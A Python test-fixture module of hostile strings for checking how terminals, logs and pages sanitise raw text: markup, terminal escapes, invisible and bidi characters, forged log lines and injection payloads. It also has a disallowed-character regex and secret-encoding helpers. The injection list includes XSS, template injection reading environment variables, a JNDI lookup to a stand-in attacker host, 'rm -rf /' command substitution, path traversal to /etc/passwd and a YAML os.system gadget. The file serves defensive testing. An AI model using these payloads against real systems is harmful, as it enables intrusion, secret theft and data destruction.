"""Texts that do something where they are shown raw, and what may not be left of them; how a secret may be spelt."""

import json
import re
from collections.abc import Callable
from urllib.parse import quote, quote_plus

MARKUP = [
    "x[/red]",
    "[/]",
    "[bold]loud[/bold]",
    "[red]alarm",
    "[link=https://evil.example]click[/link]",
    "[@click=app.quit]quit[/]",
    "[[/red]]",
    r"\[/red]",
    "[/red",
    "[on red blink]all is well[/on red blink]",
    "a[b]c[/b]d[/c]",
    ":skull: :pile_of_poo:",
    "[progress.percentage]100%[/progress.percentage]",
]
ESCAPES = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[Hcleared",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]0;a title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31mC1 red",
    "\x9d0;a title\x9c",
    "\x90q#0\x9c",
    "\x1bPq#0\x1b\\",
    "\x1b[6n",
    "\x1b[?1049h",
    "\x1bc",
    "\x1b(0lqqk",
    "\x1b[8mhidden\x1b[28m",
    "\x1b[1A\x1b[2Koverwritten",
    "50 % done\r100 % done",
    "typo\x08\x08\x08\x08fine",
    "bell\x07bell",
    "\x0e shifted \x0f",
    "\x7f\x7fdeleted",
    "form\x0cfeed\x0bvertical",
]
UNSEEN = [
    "\u202egnp.exe",
    "\u2066left\u2069 \u2067right",
    "\u200f\u05e8\u05e9\u05de\u200e 12",
    "\u061c\u0661\u0662",
    "gpt\u200b-4",
    "gpt\u200d-4",
    "\ufeffmark",
    "soft\u00adhyphen",
    "\U000e0041\U000e0042tagged",
    "line\u2028separated\u2029twice",
    "next\u0085line",
    "NUL\x00NUL",
    "lone \ud800 half",
    "other \udfff half",
    "\ud83d\ud83d",
    "\ufffe\uffff noncharacters",
    "👩\u200d👩\u200d👧 family",
    "z\u0351\u036b\u0343\u0489a\u0315l\u0358g\u0321o",
]
FORGED = [
    "bad\n5 calls sent, $0.00 paid",
    "bad\r\nnote: all is well",
    '{"file": "x"}\n{"file": "forged", "reason": "none"}',
    "\n\n\n\nreport: http://evil.example\n",
    "tab\tseparated\tcells",
    "2026-11-22 00:00:00  harvested  all replies",
]
CODE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style></details></body><h1>gone</h1>",
    "<!-- --!><svg/onload=alert(1)>",
    "&lt;b&gt; &#x202e; &amp;",
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    "{{ 7*7 }}{% include 'x' %}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    "${jndi:ldap://evil.example}",
    "{0.__class__} {name!r} {",
    "%s %n %(x)s %%",
    '=HYPERLINK("http://evil.example")',
    "`rm -rf /` $(reboot)",
    "../../../etc/passwd",
    "!!python/object/apply:os.system ['true']",
]
LONG = ["long " * 4000, "W" * 20_000, "[/red]" * 2000, "\x1b" * 3000]
TEXTS = [*MARKUP, *ESCAPES, *UNSEEN, *FORGED, *CODE, *LONG]

_RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufffe\uffff"
    "\ud800-\udfff\U000e0000-\U000e007f]"
)
SPELLINGS: dict[str, Callable[[str], str]] = {
    "as it is": str,
    "JSON": lambda key: json.dumps(key)[1:-1],
    "JSON twice": lambda key: json.dumps(json.dumps(key))[3:-3],
    "JSON with escaped slashes": lambda key: json.dumps(key)[1:-1].replace("/", "\\/"),
    "JSON with codes": lambda key: "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in key),
    "URL": lambda key: quote(key, safe=""),
    "form": quote_plus,
    "URL twice": lambda key: quote(quote(key, safe=""), safe=""),
    "HTML": lambda key: "".join(c if c.isalnum() else f"&#{ord(c)};" for c in key),
}


def raw_in(shown: str) -> list[str]:
    """The characters of a terminal's output or a log file that should not be there."""
    return [f"U+{ord(found):04X}" for found in _RAW.findall(shown)]
